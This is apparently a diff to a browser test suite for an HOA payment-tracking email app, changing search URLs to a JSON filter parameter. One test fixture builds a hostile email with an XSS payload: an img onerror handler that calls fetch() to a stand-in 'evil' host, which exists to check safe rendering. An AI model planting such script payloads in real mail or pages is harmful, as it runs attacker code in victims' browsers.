@@ -146,7 +146,7 @@ describe.skipIf(hasNoBrowser)('HOA Payment Tracking', () => {
     });
 
     test('an assignment needs a property, and Cancel leaves all as it is', async () => {
-      const { page } = await bench.visit('/hoa?search=Meeting');
+      const { page } = await bench.visit('/hoa?filter={"search":"Meeting"}');
       await row(page, 'Meeting of owners').getByRole('button', { name: 'Assign' }).click();
       const dialog = page.getByRole('dialog', { name: 'Assign email to a property' });
       await dialog.getByRole('button', { name: 'Assign' }).click();
@@ -159,7 +159,7 @@ describe.skipIf(hasNoBrowser)('HOA Payment Tracking', () => {
       const [meeting] = (await emails('search=Meeting')).emails;
       const fields = { amount: found('210.00'), late_fee: found('25.00'), service_date: found('2026-03-01') };
       await paper(bench.em, { mailId: meeting?.mail_id ?? 0, partPath: '1', processingStatus: 'completed', machineFields: { fields } });
-      const { page } = await bench.visit('/hoa?search=Meeting', { expected: /500 \(/ });
+      const { page } = await bench.visit('/hoa?filter={"search":"Meeting"}', { expected: /500 \(/ });
       await row(page, 'Meeting of owners').getByRole('button', { name: 'View details' }).click();
       const dialog = page.getByRole('dialog', { name: 'Meeting of owners' });
       for (const words of ['Pending', 'Medium', 'Not assigned', 'Alder Court Association <office@alder.example>', 'None'])
@@ -202,7 +202,7 @@ describe.skipIf(hasNoBrowser)('HOA Payment Tracking', () => {
       const text = `Dues of $310.00 are due <img src="${evil}/text.gif" onerror="fetch('${evil}/t')">`;
       const hostile = { subject: 'Dues <img src=x onerror=alert(1)>', messageId: '<evil@hoa.example>', text, html };
       await bench.product.mail(await rawMail(hostile), 'hoa@inbox.localhost');
-      const { page } = await bench.visit('/hoa?search=onerror');
+      const { page } = await bench.visit('/hoa?filter={"search":"onerror"}');
       await row(page, 'Dues <img src=x').getByRole('button', { name: 'View details' }).click();
       const dialog = page.getByRole('dialog', { name: 'Dues <img src=x' });
       await dialog.getByRole('tab', { name: 'Text', exact: true }).waitFor();
@@ -218,7 +218,7 @@ describe.skipIf(hasNoBrowser)('HOA Payment Tracking', () => {
     });
 
     test('is marked as reviewed from its row, and deleted after a warning', async () => {
-      const { page } = await bench.visit('/hoa?search=newsletter', { expected: /500 \(/ });
+      const { page } = await bench.visit('/hoa?filter={"search":"newsletter"}', { expected: /500 \(/ });
       const newsletter = row(page, 'Spring newsletter');
       await newsletter.getByRole('button', { name: 'Mark Reviewed' }).click();
       await page.getByText('Email marked as reviewed').waitFor();
